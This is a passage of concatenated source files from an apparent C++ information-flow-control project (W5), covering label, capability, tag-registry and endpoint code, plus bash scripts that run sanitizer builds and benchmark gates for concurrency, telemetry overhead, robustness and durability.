  LabelId next_id_ W5_GUARDED_BY(mutex_) = 1;
  std::uint64_t epoch_ W5_GUARDED_BY(mutex_) = 1;
};

// Memoized "a ⊆ b" through the interned-label flow cache — the one
// subset primitive every hot path (perimeter export checks, store
// clearance checks, posting-list visibility) shares. Identity and
// empty-label cases never touch the cache; everything else is one hash
// probe on a hit. Sound because the verdict is pure set arithmetic over
// the interned vectors; the cache handles epoch invalidation.
bool cached_subset(const Label& a, const Label& b);

// Bounded LRU memo of (src_id, dst_id) → "src ⊆ dst" verdicts. Entries
// are stamped with the LabelTable epoch at insertion; an epoch mismatch
// is a miss. Lookups do not touch recency (the hot set is far smaller
// than the capacity; a read-mostly memo beats strict LRU under
// contention) — eviction approximates LRU by insertion order.
class FlowCache {
 public:
  static FlowCache& instance();

  std::optional<bool> lookup(LabelId src, LabelId dst) const;
  void insert(LabelId src, LabelId dst, bool verdict);

  void clear();
  std::size_t size() const;

  static constexpr std::size_t kCapacity = 1024;

  // Stats for benchmarks/tests (monotonic, approximate under races).
  std::uint64_t hits() const;
  std::uint64_t misses() const;
  // How many times the memo was flushed by an epoch bump or table reset
  // (DESIGN.md §11) — a spike means something is churning the tag registry.
  std::uint64_t invalidations() const;

 private:
  FlowCache() = default;

  struct Entry {
    bool verdict = false;
    std::uint64_t epoch = 0;
    std::uint64_t order = 0;  // insertion stamp for FIFO eviction
  };

  mutable util::Mutex mutex_{util::lockrank::kFlowCache, "FlowCache::mutex_"};
  std::unordered_map<std::uint64_t, Entry> entries_ W5_GUARDED_BY(mutex_);
  std::uint64_t next_order_ W5_GUARDED_BY(mutex_) = 0;
  mutable std::uint64_t hits_ W5_GUARDED_BY(mutex_) = 0;
  mutable std::uint64_t misses_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t invalidations_ W5_GUARDED_BY(mutex_) = 0;
};

}  // namespace w5::difc
