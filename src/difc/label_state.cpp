#include "difc/label_state.h"

namespace w5::difc {

bool LabelState::change_is_safe(const Label& from, const Label& to) const {
  const Label added = to.subtract(from);
  const Label dropped = from.subtract(to);
  return owned_.covers(added, CapSign::kPlus) &&
         owned_.covers(dropped, CapSign::kMinus);
}

util::Status LabelState::set_secrecy(const Label& to) {
  if (!change_is_safe(secrecy_, to)) {
    return util::make_error(
        "flow.denied", "unsafe secrecy change " + secrecy_.to_string() +
                           " -> " + to.to_string() + " with owned " +
                           owned_.to_string());
  }
  secrecy_ = to;
  return util::ok_status();
}

util::Status LabelState::set_integrity(const Label& to) {
  if (!change_is_safe(integrity_, to)) {
    return util::make_error(
        "flow.denied", "unsafe integrity change " + integrity_.to_string() +
                           " -> " + to.to_string() + " with owned " +
                           owned_.to_string());
  }
  integrity_ = to;
  return util::ok_status();
}

util::Status LabelState::raise_secrecy(const Label& tags) {
  return set_secrecy(secrecy_.union_with(tags));
}

Label LabelState::secrecy_clearance() const {
  return secrecy_.union_with(owned_.addable());
}

Label LabelState::integrity_floor() const {
  return integrity_.subtract(owned_.removable());
}

std::string LabelState::to_string() const {
  return "S=" + secrecy_.to_string() + " I=" + integrity_.to_string() +
         " O=" + owned_.to_string();
}

}  // namespace w5::difc
