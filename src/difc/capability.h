// Capabilities (Flume's ownership sets).
//
// t+ lets a process ADD t to its labels (receive t-tagged secrets / drop an
// integrity endorsement); t- lets it REMOVE t (declassify secrecy /
// endorse integrity). Owning both is "dual privilege" — full authority
// over t. The W5 perimeter hands a user's sec(u)- capability only to
// declassifiers the user authorized (paper §3.1).
#pragma once

#include <initializer_list>
#include <string>
#include <vector>

#include "difc/label.h"
#include "difc/tag.h"

namespace w5::difc {

enum class CapSign : std::uint8_t { kPlus, kMinus };

struct Capability {
  Tag tag;
  CapSign sign = CapSign::kPlus;

  friend constexpr auto operator<=>(const Capability&,
                                    const Capability&) = default;
};

constexpr Capability plus(Tag tag) { return {tag, CapSign::kPlus}; }
constexpr Capability minus(Tag tag) { return {tag, CapSign::kMinus}; }

std::string to_string(const Capability& cap);

class CapabilitySet {
 public:
  CapabilitySet() = default;
  CapabilitySet(std::initializer_list<Capability> caps);
  explicit CapabilitySet(std::vector<Capability> caps);

  bool empty() const noexcept { return caps_.empty(); }
  std::size_t size() const noexcept { return caps_.size(); }

  bool has(Capability cap) const;
  bool has_plus(Tag tag) const { return has(plus(tag)); }
  bool has_minus(Tag tag) const { return has(minus(tag)); }
  bool has_dual(Tag tag) const { return has_plus(tag) && has_minus(tag); }

  void add(Capability cap);
  void add_dual(Tag tag);
  void remove(Capability cap);
  void merge(const CapabilitySet& other);

  // True iff every tag in `tags` has the given sign in this set.
  bool covers(const Label& tags, CapSign sign) const;

  // Tags this set can add / remove.
  Label addable() const;
  Label removable() const;

  const std::vector<Capability>& capabilities() const noexcept {
    return caps_;
  }

  std::string to_string() const;

  friend bool operator==(const CapabilitySet&, const CapabilitySet&) = default;

 private:
  std::vector<Capability> caps_;  // sorted, unique
};

}  // namespace w5::difc
