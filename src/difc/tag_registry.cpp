#include "difc/tag_registry.h"

#include <algorithm>
#include <mutex>

#include "difc/label_table.h"
#include "util/log.h"

namespace w5::difc {

std::string to_string(TagPurpose purpose) {
  switch (purpose) {
    case TagPurpose::kSecrecy:
      return "secrecy";
    case TagPurpose::kIntegrity:
      return "integrity";
    case TagPurpose::kReadProtect:
      return "read-protect";
    case TagPurpose::kOther:
      return "other";
  }
  return "other";
}

std::optional<TagPurpose> tag_purpose_from_string(std::string_view s) {
  if (s == "secrecy") return TagPurpose::kSecrecy;
  if (s == "integrity") return TagPurpose::kIntegrity;
  if (s == "read-protect") return TagPurpose::kReadProtect;
  if (s == "other") return TagPurpose::kOther;
  return std::nullopt;
}

// Move operations lock *two* registries (or a foreign one during
// construction) — aliases the analysis cannot track, hence the opt-outs.
TagRegistry::TagRegistry(TagRegistry&& other) noexcept
    W5_NO_THREAD_SAFETY_ANALYSIS {
  // w5flow-allow(native): move-construct locks the *source* registry; the
  // destination is not yet visible to any thread, so no cycle is possible.
  std::unique_lock other_lock(other.mutex_.native());
  next_id_ = other.next_id_;
  info_ = std::move(other.info_);
}

TagRegistry& TagRegistry::operator=(TagRegistry&& other) noexcept
    W5_NO_THREAD_SAFETY_ANALYSIS {
  if (this != &other) {
    // w5flow-allow(native): scoped_lock's deadlock-avoiding two-lock
    // acquire over sibling registries; the witness cannot rank aliases.
    std::scoped_lock locks(mutex_.native(), other.mutex_.native());
    next_id_ = other.next_id_;
    info_ = std::move(other.info_);
  }
  // Snapshot restores reuse tag ids with new meaning: flush the memo.
  LabelTable::instance().invalidate();
  return *this;
}

Tag TagRegistry::create(std::string name, TagPurpose purpose,
                        std::string owner) {
  Tag tag;
  std::uint64_t seq = 0;
  {
    util::WriteLock lock(mutex_);
    tag = Tag(next_id_++);
    info_[tag] = TagInfo{std::move(name), purpose, std::move(owner)};
    if (mutation_log_ != nullptr) {
      const TagInfo& info = info_[tag];
      util::Json op;
      op["op"] = "tag.create";
      op["id"] = tag.id();
      op["name"] = info.name;
      op["purpose"] = to_string(info.purpose);
      op["owner"] = info.owner;
      seq = mutation_log_->log(op);
    }
  }
  LabelTable::instance().invalidate();
  if (mutation_log_ != nullptr) {
    // create() cannot surface a Status; a failed WAL is already erroring
    // every store/fs write, so record the non-durable mint and move on.
    if (auto durable = mutation_log_->wait_durable(seq); !durable.ok())
      util::log_warn("tag registry: mint not durable: ",
                     durable.error().detail);
  }
  return tag;
}

util::Status TagRegistry::apply_wal(const util::Json& op) {
  if (op.at("op").as_string() != "tag.create")
    return util::make_error("wal.replay", "unknown tag op");
  const auto id = op.at("id").as_int(0);
  if (id <= 0) return util::make_error("wal.replay", "bad tag id");
  const auto purpose = tag_purpose_from_string(op.at("purpose").as_string());
  if (!purpose) return util::make_error("wal.replay", "unknown tag purpose");
  {
    util::WriteLock lock(mutex_);
    const Tag tag(static_cast<std::uint64_t>(id));
    info_[tag] = TagInfo{op.at("name").as_string(), *purpose,
                         op.at("owner").as_string()};
    next_id_ = std::max(next_id_, static_cast<std::uint64_t>(id) + 1);
  }
  LabelTable::instance().invalidate();
  return util::ok_status();
}

std::size_t TagRegistry::size() const {
  const util::ReadLock lock(mutex_);
  return info_.size();
}

std::vector<Tag> TagRegistry::all() const {
  const util::ReadLock lock(mutex_);
  std::vector<Tag> out;
  out.reserve(info_.size());
  for (const auto& [tag, info] : info_) out.push_back(tag);
  return out;
}

const TagInfo* TagRegistry::find(Tag tag) const {
  const util::ReadLock lock(mutex_);
  const auto it = info_.find(tag);
  return it == info_.end() ? nullptr : &it->second;
}

std::string TagRegistry::describe(Tag tag) const {
  if (const TagInfo* info = find(tag); info && !info->name.empty())
    return info->name;
  return to_string(tag);
}

util::Json TagRegistry::to_json() const {
  const util::ReadLock lock(mutex_);
  // Sort by id: unordered_map iteration order would make snapshot bytes
  // vary run to run, breaking checksum comparisons between snapshots of
  // identical state.
  std::vector<std::pair<Tag, const TagInfo*>> sorted;
  sorted.reserve(info_.size());
  for (const auto& [tag, info] : info_) sorted.emplace_back(tag, &info);
  std::sort(sorted.begin(), sorted.end(),
            [](const auto& a, const auto& b) { return a.first < b.first; });
  util::Json tags = util::Json::array();
  for (const auto& [tag, info] : sorted) {
    util::Json entry;
    entry["id"] = tag.id();
    entry["name"] = info->name;
    entry["purpose"] = to_string(info->purpose);
    entry["owner"] = info->owner;
    tags.push_back(std::move(entry));
  }
  util::Json out;
  out["next_id"] = next_id_;
  out["tags"] = std::move(tags);
  return out;
}

util::Result<TagRegistry> TagRegistry::from_json(const util::Json& j) {
  TagRegistry registry;
  const auto next_id = j.at("next_id").as_int(-1);
  if (next_id < 1) return util::make_error("tag_registry.parse", "bad next_id");
  registry.next_id_ = static_cast<std::uint64_t>(next_id);
  for (const auto& entry : j.at("tags").as_array()) {
    const auto id = entry.at("id").as_int(0);
    if (id <= 0 || static_cast<std::uint64_t>(id) >= registry.next_id_) {
      return util::make_error("tag_registry.parse",
                              "tag id out of range: " + std::to_string(id));
    }
    const auto purpose =
        tag_purpose_from_string(entry.at("purpose").as_string());
    if (!purpose) {
      return util::make_error("tag_registry.parse", "unknown purpose");
    }
    registry.info_[Tag(static_cast<std::uint64_t>(id))] =
        TagInfo{entry.at("name").as_string(), *purpose,
                entry.at("owner").as_string()};
  }
  return registry;
}

}  // namespace w5::difc
