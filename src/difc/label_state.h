// Per-process DIFC state and the safe-label-change rule (Flume §3.1).
//
// A process's state is (S, I, O): secrecy label, integrity label, and the
// ownership/capability set. The single soundness-critical rule:
//
//     L → L' is safe  iff  (L' − L) ⊆ O.addable()  and  (L − L') ⊆ O.removable()
//
// i.e. every added tag needs t+ and every dropped tag needs t-.
#pragma once

#include <string>

#include "difc/capability.h"
#include "difc/label.h"
#include "util/result.h"

namespace w5::difc {

class LabelState {
 public:
  LabelState() = default;
  LabelState(Label secrecy, Label integrity, CapabilitySet owned)
      : secrecy_(std::move(secrecy)),
        integrity_(std::move(integrity)),
        owned_(std::move(owned)) {}

  const Label& secrecy() const noexcept { return secrecy_; }
  const Label& integrity() const noexcept { return integrity_; }
  const CapabilitySet& owned() const noexcept { return owned_; }
  CapabilitySet& owned() noexcept { return owned_; }

  // The safe-change predicate for an arbitrary label under this state's
  // ownership set.
  bool change_is_safe(const Label& from, const Label& to) const;

  // Attempts to replace the secrecy/integrity label; returns flow.denied
  // with a precise reason when unsafe.
  util::Status set_secrecy(const Label& to);
  util::Status set_integrity(const Label& to);

  // Raise-only convenience used by auto-raise endpoints: adds exactly the
  // tags in `tags` to S. Raising secrecy requires t+ for each new tag.
  util::Status raise_secrecy(const Label& tags);

  // Secrecy clearance: the highest S this process could legally reach,
  // S ∪ addable(O). Bounds what the store lets the process *see*
  // (DESIGN.md §3, covert-channel rule).
  Label secrecy_clearance() const;

  // Integrity floor: the lowest I this process could legally hold.
  Label integrity_floor() const;

  std::string to_string() const;

  friend bool operator==(const LabelState&, const LabelState&) = default;

 private:
  Label secrecy_;
  Label integrity_;
  CapabilitySet owned_;
};

}  // namespace w5::difc
