#include "difc/capability.h"

#include <algorithm>

namespace w5::difc {

std::string to_string(const Capability& cap) {
  return difc::to_string(cap.tag) + (cap.sign == CapSign::kPlus ? "+" : "-");
}

CapabilitySet::CapabilitySet(std::initializer_list<Capability> caps)
    : CapabilitySet(std::vector<Capability>(caps)) {}

CapabilitySet::CapabilitySet(std::vector<Capability> caps)
    : caps_(std::move(caps)) {
  std::sort(caps_.begin(), caps_.end());
  caps_.erase(std::unique(caps_.begin(), caps_.end()), caps_.end());
}

bool CapabilitySet::has(Capability cap) const {
  return std::binary_search(caps_.begin(), caps_.end(), cap);
}

void CapabilitySet::add(Capability cap) {
  const auto it = std::lower_bound(caps_.begin(), caps_.end(), cap);
  if (it == caps_.end() || *it != cap) caps_.insert(it, cap);
}

void CapabilitySet::add_dual(Tag tag) {
  add(plus(tag));
  add(minus(tag));
}

void CapabilitySet::remove(Capability cap) {
  const auto it = std::lower_bound(caps_.begin(), caps_.end(), cap);
  if (it != caps_.end() && *it == cap) caps_.erase(it);
}

void CapabilitySet::merge(const CapabilitySet& other) {
  std::vector<Capability> merged;
  merged.reserve(caps_.size() + other.caps_.size());
  std::set_union(caps_.begin(), caps_.end(), other.caps_.begin(),
                 other.caps_.end(), std::back_inserter(merged));
  caps_ = std::move(merged);
}

bool CapabilitySet::covers(const Label& tags, CapSign sign) const {
  return std::all_of(tags.tags().begin(), tags.tags().end(),
                     [&](Tag t) { return has({t, sign}); });
}

Label CapabilitySet::addable() const {
  std::vector<Tag> tags;
  for (const auto& cap : caps_)
    if (cap.sign == CapSign::kPlus) tags.push_back(cap.tag);
  return Label(std::move(tags));
}

Label CapabilitySet::removable() const {
  std::vector<Tag> tags;
  for (const auto& cap : caps_)
    if (cap.sign == CapSign::kMinus) tags.push_back(cap.tag);
  return Label(std::move(tags));
}

std::string CapabilitySet::to_string() const {
  std::string out = "{";
  for (std::size_t i = 0; i < caps_.size(); ++i) {
    if (i > 0) out.push_back(',');
    out += difc::to_string(caps_[i]);
  }
  out.push_back('}');
  return out;
}

}  // namespace w5::difc
