// Tags: the atoms of the DIFC label lattice (Flume §3 / paper §3.1).
//
// A tag is an opaque 64-bit identifier. Tags carry no meaning by
// themselves; meaning comes from which labels contain them and which
// processes own capabilities for them. The provider allocates one secrecy
// tag and one write-protect integrity tag per user (DESIGN.md §3.2).
#pragma once

#include <cstdint>
#include <functional>
#include <string>

namespace w5::difc {

class Tag {
 public:
  constexpr Tag() = default;
  constexpr explicit Tag(std::uint64_t id) : id_(id) {}

  constexpr std::uint64_t id() const noexcept { return id_; }
  constexpr bool valid() const noexcept { return id_ != 0; }

  friend constexpr auto operator<=>(Tag, Tag) = default;

 private:
  std::uint64_t id_ = 0;  // 0 is the reserved invalid tag
};

std::string to_string(Tag tag);

}  // namespace w5::difc

template <>
struct std::hash<w5::difc::Tag> {
  std::size_t operator()(w5::difc::Tag tag) const noexcept {
    // splitmix-style mix so consecutive ids spread across buckets
    std::uint64_t z = tag.id() + 0x9e3779b97f4a7c15ULL;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return static_cast<std::size_t>(z ^ (z >> 31));
  }
};
