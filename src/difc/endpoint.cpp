#include "difc/endpoint.h"

namespace w5::difc {

bool Endpoint::safe_for(const LabelState& owner) const {
  return owner.change_is_safe(owner.secrecy(), secrecy_) &&
         owner.change_is_safe(owner.integrity(), integrity_);
}

util::Status Endpoint::check_send(const LabelState& owner,
                                  const Endpoint& sink,
                                  const LabelState& sink_owner) const {
  if (!safe_for(owner)) {
    return util::make_error(
        "endpoint.unsafe",
        "source endpoint " + to_string() + " unsafe for owner " +
            owner.to_string());
  }
  if (!sink.safe_for(sink_owner)) {
    return util::make_error(
        "endpoint.unsafe",
        "sink endpoint " + sink.to_string() + " unsafe for owner " +
            sink_owner.to_string());
  }
  if (!can_flow(secrecy_, integrity_, sink.secrecy(), sink.integrity())) {
    return util::make_error(
        "flow.denied", "endpoint flow " + to_string() + " -> " +
                           sink.to_string() + " violates lattice order");
  }
  return util::ok_status();
}

util::Status Endpoint::admit(const LabelState& owner,
                             const Label& message_secrecy) {
  if (message_secrecy.subset_of(secrecy_)) return util::ok_status();
  if (mode_ != Mode::kAutoRaise) {
    return util::make_error(
        "flow.denied", "fixed endpoint " + to_string() +
                           " cannot admit secrecy " +
                           message_secrecy.to_string());
  }
  const Label widened = secrecy_.union_with(message_secrecy);
  if (!owner.change_is_safe(owner.secrecy(), widened)) {
    return util::make_error(
        "flow.denied", "auto-raise to " + widened.to_string() +
                           " unsafe for owner " + owner.to_string());
  }
  secrecy_ = widened;
  return util::ok_status();
}

std::string Endpoint::to_string() const {
  return "ep(S=" + secrecy_.to_string() + ",I=" + integrity_.to_string() +
         (mode_ == Mode::kAutoRaise ? ",auto)" : ")");
}

}  // namespace w5::difc
