#!/usr/bin/env bash
# Sanitizer matrix for the concurrent request pipeline.
#
#   scripts/run_sanitizers.sh            # TSan concurrency tests + ASan/UBSan suite
#   scripts/run_sanitizers.sh tsan       # just the ThreadSanitizer leg
#   scripts/run_sanitizers.sh asan       # just the ASan+UBSan leg
#
# TSan runs the tests that actually spin threads (the provider hammer,
# the TCP end-to-end serving path, thread-pool and IPC tests, and the
# fault-injection/robustness chaos suites — injected resets and reaping
# race real worker threads); running the whole suite under TSan adds
# minutes for zero extra interleavings. ASan+UBSan run everything, with
# LeakSanitizer ON (suppressions: scripts/lsan.supp).
#
# Static legs live in scripts/ci.sh lint: w5lint (layering / perimeter /
# telemetry / banned functions), w5flow (taint + lock order) and, when
# clang++ is on PATH, a -Werror=thread-safety build over the annotated
# tree (src/util/thread_annotations.h).
#
# Both legs pin -DW5_LOCK_WITNESS=ON explicitly (it is already the
# default off-Release, but a stale cache from a Release configure must
# not silently drop the lock-order witness from the sanitizer runs —
# TSan threads are exactly where an inversion would bite).
set -euo pipefail
cd "$(dirname "$0")/.."

leg="${1:-all}"
jobs="$(nproc 2>/dev/null || echo 4)"

run_tsan() {
  echo "== ThreadSanitizer =="
  cmake -B build-tsan -S . -DW5_SANITIZE=thread -DW5_LOCK_WITNESS=ON \
    >/dev/null
  cmake --build build-tsan -j "$jobs" --target w5_tests
  TSAN_OPTIONS="halt_on_error=1" \
    ./build-tsan/tests/w5_tests \
    --gtest_filter='*Concurrency*:*FlowMemo*:*TcpEndToEnd*:*ThreadPool*:*Ipc*:*Observability*:*FaultInjection*:*NetRobustness*:*EventLoopServer*:*TimerWheel*'
}

run_asan() {
  echo "== AddressSanitizer + UndefinedBehaviorSanitizer =="
  cmake -B build-asan -S . -DW5_SANITIZE=address,undefined \
    -DW5_LOCK_WITNESS=ON >/dev/null
  cmake --build build-asan -j "$jobs" --target w5_tests
  ASAN_OPTIONS="detect_leaks=1" \
    LSAN_OPTIONS="suppressions=scripts/lsan.supp:print_suppressions=0" \
    UBSAN_OPTIONS="halt_on_error=1" \
    ./build-asan/tests/w5_tests
}

case "$leg" in
  tsan) run_tsan ;;
  asan) run_asan ;;
  all)  run_tsan; run_asan ;;
  *) echo "usage: $0 [tsan|asan|all]" >&2; exit 2 ;;
esac
echo "sanitizers: all clean"
