#!/usr/bin/env bash
# Runs the concurrency benchmark and records machine-readable results in
# BENCH_concurrency.json (google-benchmark's JSON format, one file the
# roadmap's perf tracking can diff across commits).
#
#   scripts/bench_json.sh                 # default build dir ./build
#   BUILD_DIR=build-opt scripts/bench_json.sh
set -euo pipefail
cd "$(dirname "$0")/.."

build_dir="${BUILD_DIR:-build}"
out="${OUT:-BENCH_concurrency.json}"

if [[ ! -x "$build_dir/bench/bench_concurrency" ]]; then
  cmake -B "$build_dir" -S . >/dev/null
  cmake --build "$build_dir" -j "$(nproc 2>/dev/null || echo 4)" \
    --target bench_concurrency
fi

"$build_dir/bench/bench_concurrency" \
  --benchmark_min_time=0.5 \
  --benchmark_repetitions=1 \
  --benchmark_format=json >"$out"

echo "wrote $out"
# Headline: ops/s at 1 vs 8 threads for the mixed pipeline.
python3 - "$out" <<'EOF' 2>/dev/null || true
import json, sys
data = json.load(open(sys.argv[1]))
for b in data.get("benchmarks", []):
    if b.get("name", "").startswith("BM_MixedRequestPipeline"):
        print(f'{b["name"]}: {b.get("items_per_second", 0):,.0f} req/s')
EOF
