#!/usr/bin/env bash
# Runs a benchmark suite and records machine-readable results in
# BENCH_<suite>.json (google-benchmark's JSON format plus a
# "metrics_snapshot" key holding the bench-reported telemetry counters,
# one file the roadmap's perf tracking can diff across commits).
#
#   scripts/bench_json.sh                    # concurrency suite (default)
#   scripts/bench_json.sh observability      # E13: two-build overhead check
#   BUILD_DIR=build-opt scripts/bench_json.sh
#
# The observability suite builds the tree twice — once as-is and once
# with -DW5_NO_TELEMETRY=ON — runs every BM_ObservedPipeline* bench in
# both (the in-process gateway pipeline AND the reactor TCP path, whose
# telemetry includes stage spans and histogram exemplars), and fails if
# the telemetry plane costs more than W5_OVERHEAD_BUDGET percent
# (default 5) of baseline throughput.
set -euo pipefail
cd "$(dirname "$0")/.."

suite="${1:-concurrency}"
build_dir="${BUILD_DIR:-build}"
out="${OUT:-BENCH_${suite}.json}"
jobs="$(nproc 2>/dev/null || echo 4)"

build_bench() {  # build_bench <dir> <target> [extra cmake args...]
  local dir="$1" target="$2"
  shift 2
  cmake -B "$dir" -S . "$@" >/dev/null
  cmake --build "$dir" -j "$jobs" --target "$target" >/dev/null
}

run_bench() {  # run_bench <dir> <target> <out.json> [filter] [repetitions]
  local dir="$1" target="$2" json="$3" filter="${4:-}" reps="${5:-1}"
  "$dir/bench/$target" \
    --benchmark_min_time=0.5 \
    --benchmark_repetitions="$reps" \
    ${filter:+--benchmark_filter="$filter"} \
    --benchmark_format=json >"$json"
}

# Pulls per-benchmark user counters (req_per_s, the BM_MetricsSnapshot_*
# primitive costs, telemetry_enabled, the conn_* connection-plane gauges
# and the idle-sweep cpu numbers) up into a "metrics_snapshot" key so
# the telemetry numbers sit next to the timing numbers they explain.
annotate_snapshot() {  # annotate_snapshot <json>
  python3 - "$1" <<'EOF'
import json, sys
path = sys.argv[1]
data = json.load(open(path))
snapshot = {}
for b in data.get("benchmarks", []):
    name = b.get("name", "")
    for key, value in b.items():
        if key in ("req_per_s", "telemetry_enabled", "final",
                   "cpu_core_pct", "open_conns", "idle_conns") or \
           key.startswith(("snap_", "conn_")):
            snapshot[f"{name}.{key}"] = value
data["metrics_snapshot"] = snapshot
json.dump(data, open(path, "w"), indent=1)
EOF
}

case "$suite" in
concurrency)
  build_bench "$build_dir" bench_concurrency
  run_bench "$build_dir" bench_concurrency "$out"
  annotate_snapshot "$out"
  echo "wrote $out"
  # Headlines: in-process mixed pipeline, the two TCP serving modes
  # head-to-head (E12b), and the idle keep-alive CPU sweep (E12c).
  python3 - "$out" <<'EOF' 2>/dev/null || true
import json, sys
data = json.load(open(sys.argv[1]))
tcp = {}
for b in data.get("benchmarks", []):
    name = b.get("name", "")
    if name.startswith(("BM_MixedRequestPipeline", "BM_TcpMixedPipeline")):
        print(f'{name}: {b.get("items_per_second", 0):,.0f} req/s')
        if name.startswith("BM_TcpMixedPipeline"):
            tcp[name] = b.get("items_per_second", 0)
    if name.startswith("BM_IdleConnectionCpu"):
        print(f'{name}: {b.get("open_conns", 0):,.0f} idle conns at '
              f'{b.get("cpu_core_pct", 0):.2f}% of a core')
reactor = tcp.get("BM_TcpMixedPipeline_EventLoop/real_time/threads:8", 0)
pooled = tcp.get("BM_TcpMixedPipeline_Pooled/real_time/threads:8", 0)
if reactor and pooled:
    print(f"reactor vs pooled at 8 clients: {reactor / pooled:.2f}x")
EOF
  ;;

observability)
  budget="${W5_OVERHEAD_BUDGET:-5}"
  rounds="${W5_OVERHEAD_ROUNDS:-3}"
  base_dir="${BASELINE_BUILD_DIR:-build-notelemetry}"
  build_bench "$build_dir" bench_observability
  build_bench "$base_dir" bench_observability -DW5_NO_TELEMETRY=ON
  run_bench "$build_dir" bench_observability "$out"
  # The budget comparison interleaves the two builds across several
  # process-level rounds and compares each build's BEST run per thread
  # count. On a shared box, interference only ever slows a run down, so
  # the per-build minimum is the noise-robust estimator; two sequential
  # blocks of repetitions would fold load drift straight into the
  # verdict.
  for round in $(seq "$rounds"); do
    run_bench "$build_dir" bench_observability \
      "/tmp/bench_obs_on_${round}.json" 'BM_ObservedPipeline' 2
    run_bench "$base_dir" bench_observability \
      "/tmp/bench_obs_off_${round}.json" 'BM_ObservedPipeline' 2
  done
  python3 - "$out" "$budget" "$rounds" "$jobs" <<'EOF'
import json, re, sys
out_path, budget, rounds = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
ncpu = int(sys.argv[4])

def best_rates(paths):
    best = {}
    for path in paths:
        data = json.load(open(path))
        for b in data.get("benchmarks", []):
            if b.get("run_type") == "aggregate":
                continue
            name = b.get("name", "")
            if name.startswith("BM_ObservedPipeline"):
                rate = b.get("items_per_second", 0.0)
                best[name] = max(best.get(name, 0.0), rate)
    return best

on_rates = best_rates(
    [f"/tmp/bench_obs_on_{r}.json" for r in range(1, rounds + 1)])
off_rates = best_rates(
    [f"/tmp/bench_obs_off_{r}.json" for r in range(1, rounds + 1)])
overhead = {}
worst = 0.0
for name, base in off_rates.items():
    with_telemetry = on_rates.get(name, 0.0)
    if base <= 0 or with_telemetry <= 0:
        continue
    pct = (base - with_telemetry) / base * 100.0
    overhead[name] = round(pct, 2)
    # Thread counts beyond the core count measure scheduler preemption
    # (lock-holder preemption under oversubscription), not the telemetry
    # plane; report them but gate only configs the hardware can run.
    m = re.search(r"threads:(\d+)", name)
    gated = m is None or int(m.group(1)) <= ncpu
    if gated:
        worst = max(worst, pct)
    print(f"{name}: best {with_telemetry:,.0f} req/s on, "
          f"{base:,.0f} req/s off, overhead {pct:+.2f}%"
          f"{'' if gated else ' (not gated: threads > cores)'}")

out = json.load(open(out_path))
out["baseline_no_telemetry"] = json.load(
    open(f"/tmp/bench_obs_off_{rounds}.json")).get("benchmarks", [])
out["overhead_percent"] = overhead
out["overhead_budget_percent"] = budget
out["overhead_method"] = (
    f"best-of-{rounds} interleaved rounds x2 reps per build")
json.dump(out, open(out_path, "w"), indent=1)
if worst > budget:
    print(f"FAIL: telemetry overhead {worst:.2f}% exceeds budget {budget}%")
    sys.exit(1)
print(f"telemetry overhead within budget ({worst:.2f}% <= {budget}%)")
EOF
  annotate_snapshot "$out"
  echo "wrote $out"
  ;;

robustness)
  # E14: tail latency and liveness under deterministic fault injection.
  # Gates: p99 at 10% per-op faults stays within a bounded multiple of
  # the clean p99 (the robustness machinery must degrade, not collapse),
  # the error rate stays within the injected-fault budget, and no worker
  # is ever left hung after the pooled chaos run.
  p99_factor="${W5_P99_FAULT_FACTOR:-50}"
  error_budget="${W5_ERROR_BUDGET:-0.5}"
  build_bench "$build_dir" bench_robustness
  run_bench "$build_dir" bench_robustness "$out"
  python3 - "$out" "$p99_factor" "$error_budget" <<'EOF'
import json, sys
path, p99_factor, error_budget = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
data = json.load(open(path))
p99 = {}
failures = []
for b in data.get("benchmarks", []):
    name = b.get("name", "")
    if name.startswith("BM_FaultyPipeline/"):
        pct = int(name.rsplit("/", 1)[1])
        p99[pct] = b.get("p99_us", 0.0)
        rate = b.get("error_rate", 0.0)
        print(f"{name}: p99 {p99[pct]:.0f}us, error_rate {rate:.3f}")
        if rate > error_budget:
            failures.append(
                f"{name}: error_rate {rate:.3f} > budget {error_budget}")
    if name.startswith("BM_PooledChaos"):
        hung = b.get("hung_workers", 0.0)
        print(f"{name}: hung_workers {hung:.0f}, "
              f"served {b.get('connections_served', 0):.0f}")
        if hung != 0:
            failures.append(f"{name}: {hung:.0f} hung workers (want 0)")
if 0 in p99 and 10 in p99 and p99[0] > 0:
    ratio = p99[10] / p99[0]
    print(f"p99 inflation at 10% faults: {ratio:.1f}x (budget {p99_factor}x)")
    if ratio > p99_factor:
        failures.append(
            f"p99 at 10% faults is {ratio:.1f}x clean (> {p99_factor}x)")
data["e14_gates"] = {
    "p99_factor_budget": p99_factor,
    "error_budget": error_budget,
    "failures": failures,
}
json.dump(data, open(path, "w"), indent=1)
if failures:
    print("FAIL: " + "; ".join(failures))
    sys.exit(1)
print("E14 robustness gates passed")
EOF
  annotate_snapshot "$out"
  echo "wrote $out"
  ;;

durability)
  # E15: the price of durability. Gates:
  #   - group-commit put p99 (fsync mode, multi-threaded) within
  #     W5_DURABILITY_P99_FACTOR (default 3) of the in-memory baseline
  #     once the irreducible device cost is added — a put arriving
  #     mid-batch waits out the in-flight fsync and then its own, so the
  #     floor is two raw fsyncs. A fsync-per-put regression (no group
  #     commit) lands at ~threads x fsync and fails the gate.
  #   - 4096-entry WAL replay under W5_RECOVERY_BUDGET_MS (default 500).
  factor="${W5_DURABILITY_P99_FACTOR:-3}"
  recovery_budget="${W5_RECOVERY_BUDGET_MS:-500}"
  build_bench "$build_dir" bench_durability
  run_bench "$build_dir" bench_durability "$out"
  python3 - "$out" "$factor" "$recovery_budget" <<'EOF'
import json, sys
path, factor, budget_ms = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
data = json.load(open(path))

p99 = {}       # benchmark name (sans /real_time) -> p99_us
recovery = {}  # entries -> wall ms
for b in data.get("benchmarks", []):
    name = b.get("name", "").removesuffix("/real_time")
    if "p99_us" in b:
        p99[name] = b["p99_us"]
    if name.startswith("BM_Recovery/"):
        t = b.get("real_time", 0.0)
        unit = b.get("time_unit", "ns")
        scale = {"ns": 1e-6, "us": 1e-3, "ms": 1.0, "s": 1e3}[unit]
        recovery[int(name.rsplit("/", 1)[1])] = t * scale

failures = []
base = p99.get("BM_GroupCommitPut/0/8")
floor = p99.get("BM_RawFsync")
